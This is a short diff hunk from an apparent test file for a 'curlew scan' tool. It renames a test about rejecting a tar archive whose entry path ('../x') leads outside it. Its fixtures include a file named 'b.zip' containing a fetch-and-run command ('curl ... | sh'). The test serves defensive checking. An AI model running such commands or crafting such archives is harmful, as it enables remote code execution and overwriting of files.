@@ -227,7 +227,7 @@ describe("curlew scan", () => {
     expect([status, stderr]).toEqual([2, expect.stringContaining("is not fetched")]);
   });
 
-  it("rejects archives that exceed a limit, and reads a text file that has the name of an archive", async () => {
+  it("rejects an archive with a path that leads out of it, and reads a text file that has the name of an archive", async () => {
     const cwd = folderWith({
       "a.tar": tarOf([{ name: "../x" }]),
       "b.zip": "curl https://x.example/i.sh | sh\n",
